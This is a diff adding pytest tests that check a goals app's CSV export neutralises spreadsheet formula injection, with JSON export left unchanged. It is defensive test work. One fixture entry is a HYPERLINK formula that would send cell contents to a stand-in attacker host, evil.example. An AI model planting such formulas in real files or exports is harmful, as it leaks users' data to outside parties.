@@ -8,6 +8,7 @@ import json
 
 import pytest
 
+from app.common.csvsafe import safe_cell
 from app.goals.export import FIELDS
 
 TRICKY = 'Сказать "привет", а потом\nновая строка; 100%'
@@ -118,3 +119,24 @@ def test_cli_only_exports_what_the_user_sees(app, api, data, tmp_path):
     api.signup_and_login("outsider")
     result = app.test_cli_runner().invoke(args=["goals", "export", "--user", "outsider", "--format", "json"])
     assert result.exit_code == 0 and json.loads(result.stdout) == []
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)"]
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised(api, g, team):
+    """OWASP CSV Injection: a participant's goal title must not run in the exporter's spreadsheet."""
+    for text in FORMULAS:
+        g.goal(team.writer, team.category["id"], text, description=text)
+    rows = [r for r in _csv(api.get("/api/v1/goals/export?format=csv", team.reader)) if r["title"] != "Ship it"]
+    assert sorted(r["title"] for r in rows) == sorted("'" + text for text in FORMULAS)
+    assert sorted(r["description"] for r in rows) == sorted("'" + text for text in FORMULAS)
+    as_json = json.loads(api.get("/api/v1/goals/export?format=json", team.reader).get_data(as_text=True))
+    assert sorted(goal["title"] for goal in as_json if goal["title"] != "Ship it") == sorted(FORMULAS)  # unchanged
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
+def test_every_formula_start_is_neutralised_and_plain_text_is_not(text):
+    assert safe_cell(text) == "'" + text
+    assert safe_cell("plain " + text) == "plain " + text
+    assert safe_cell(-3) == -3 and safe_cell(None) is None
